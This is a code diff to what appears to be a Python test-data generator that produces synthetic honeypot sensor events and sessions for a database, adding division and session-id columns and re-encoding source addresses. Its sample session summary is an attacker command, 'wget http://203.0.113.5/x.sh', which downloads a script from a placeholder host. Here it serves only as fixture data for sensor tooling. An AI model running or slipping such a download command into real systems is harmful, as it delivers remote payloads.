@@ -15,13 +15,17 @@ PORTS = (22, 445, 80, 3389, 102, 139, 21, 25)
 SOURCES = 50_000
 LINES = 2000
 PER_SESSION = len(STEPS)
+FIRST_SESSION = 1_000_000_000
+"""Numbers of sessions begin here, out of the way of those that the server makes."""
 EVENT_COLUMNS = (
-    *("sensor_id", "uuid", "time", "received_at", "service", "source_ip", "source_port", "destination_ip"),
-    *("destination_port", "protocol", "kind", "severity", "session", "summary", "details", "packets", "truncated"),
+    *("sensor_id", "division_id", "session_id", "uuid", "time", "received_at", "service", "source_ip", "source_port"),
+    *("destination_ip", "destination_port", "protocol", "kind", "severity", "summary", "details", "packets"),
+    "truncated",
 )
 SESSION_COLUMNS = (
-    *("sensor_id", "session", "service", "first_time", "last_time", "events", "kind", "severity", "protocol"),
-    *("source_ip", "source_port", "destination_ip", "destination_port", "summary", "summary_rank", "summary_time"),
+    *("id", "sensor_id", "division_id", "session", "service", "first_time", "last_time", "events", "kind", "severity"),
+    *("protocol", "source_ip", "source_port", "destination_ip", "destination_port", "summary", "summary_rank"),
+    *("summary_time", "shelf", "status", "comment"),
 )
 _COMMAND = "Command: wget http://203.0.113.5/x.sh"
 _SUMMARIES = {
@@ -39,11 +43,13 @@ class History:
 
     Attributes:
         sensors: their numbers.
+        division: theirs.
         count: events in all.
         end: the moment after the last one.
     """
 
     sensors: Sequence[int]
+    division: int
     count: int
     end: datetime
 
@@ -55,8 +61,9 @@ class History:
         kind, summary = _STEPS[step]
         details = [{"time": moment, "kind": kind, "data": _DATA}] if kind in {"login", "command"} else []
         return (
-            f"{sensor}\t{uuid7()}\t{moment}\t{moment}\t{service}\t{source}\t50522\t192.0.2.10\t{port}\ttcp\t{kind}\t"
-            f"{session % 5}\ts-{session}\t{summary}\t{_escaped(json.dumps(details))}\t[]\tf\n"
+            f"{sensor}\t{self.division}\t{FIRST_SESSION + session}\t{uuid7()}\t{moment}\t{moment}\t{service}\t"
+            f"{source}\t50522\t192.0.2.10\t{port}\ttcp\t{kind}\t"
+            f"{session % 5}\t{summary}\t{_escaped(json.dumps(details))}\t[]\tf\n"
         )
 
     def session(self, number: int) -> str:
@@ -64,14 +71,14 @@ class History:
         sensor, service, port, source = self._of(number)
         first, last = self._moment(number * PER_SESSION), self._moment(number * PER_SESSION + PER_SESSION - 1)
         return (
-            f"{sensor}\ts-{number}\t{service}\t{first}\t{last}\t{PER_SESSION}\tcommand\t{number % 5}\ttcp\t{source}\t"
-            f"50522\t192.0.2.10\t{port}\t{_COMMAND}\t{number % 5 * 9 + 6}\t{last}\n"
+            f"{FIRST_SESSION + number}\t{sensor}\t{self.division}\ts-{number}\t{service}\t{first}\t{last}\t"
+            f"{PER_SESSION}\tcommand\t{number % 5}\ttcp\t{source}\t50522\t192.0.2.10\t{port}\t{_COMMAND}\t{number % 5 * 9 + 6}\t{last}\t0\tnew\t\n"
         )
 
     def source(self, number: int) -> str:
-        """Where session `number` came from: few come often, many seldom."""
+        """Where session `number` came from, as the database keeps addresses: few come often, many seldom."""
         index = (number * 2_654_435_761 % SOURCES) ** 2 // SOURCES
-        return f"198.{18 + (index >> 16)}.{index >> 8 & 255}.{index & 255}"
+        return rf"\\x00000000000000000000ffff{(198 << 24) + (18 << 16) + index:08x}"
 
     def _of(self, session: int) -> tuple[int, str, int, str]:
         which = session * 7919 % 8
